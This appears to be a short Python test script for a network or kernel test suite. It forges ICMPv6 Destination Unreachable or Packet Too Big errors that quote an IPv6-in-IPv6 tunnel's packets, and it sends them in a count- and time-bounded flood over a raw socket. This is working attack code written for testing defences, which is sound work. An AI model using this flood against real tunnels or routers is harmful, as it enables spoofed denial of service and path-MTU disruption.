#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# icmperrflood.py - ICMPv6 errors about a tunnel's outer packets, sent as
# fast as a raw ICMPv6 socket takes them (the kernel sums them), for the
# attack tests. Each quotes an outer packet OUTER_SRC -> OUTER_DST of next
# header 41 (IPv6-in-IPv6) and an inner IPv6 header: what a router on the
# path would send, or anyone who knows the two addresses would forge.
# Bounded: COUNT packets or SECONDS, whichever ends first.
#
#   icmperrflood.py --to ADDR --outer-src ADDR --outer-dst ADDR
#                   --count N --seconds S [--type unreach|toobig] [--mtu M]
#
# Prints "sent=N seconds=S" at the end.
import argparse, socket, struct, time

p = argparse.ArgumentParser()
p.add_argument("--to", required=True); p.add_argument("--outer-src", required=True)
p.add_argument("--outer-dst", required=True)
p.add_argument("--count", type=int, required=True); p.add_argument("--seconds", type=float, required=True)
p.add_argument("--type", choices=("unreach", "toobig"), default="unreach")
p.add_argument("--mtu", type=int, default=1280)
a = p.parse_args()

src = socket.inet_pton(socket.AF_INET6, a.outer_src)
dst = socket.inet_pton(socket.AF_INET6, a.outer_dst)
inner = struct.pack("!IHBB", 6 << 28, 0, 59, 64) + bytes(32)
quote = struct.pack("!IHBB", 6 << 28, len(inner), 41, 64) + src + dst + inner
if a.type == "toobig":
    msg = struct.pack("!BBHI", 2, 0, 0, a.mtu) + quote
else:  # Destination Unreachable, address unreachable (RFC 4443 section 3.1)
    msg = struct.pack("!BBHI", 1, 3, 0, 0) + quote
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
sent, t0 = 0, time.time()
end = t0 + a.seconds
while sent < a.count and time.time() < end:
    for _ in range(min(256, a.count - sent)):
        try:
            s.sendto(msg, (a.to, 0))
            sent += 1
        except OSError:
            time.sleep(0.0002)
print("sent=%d seconds=%.3f" % (sent, time.time() - t0))
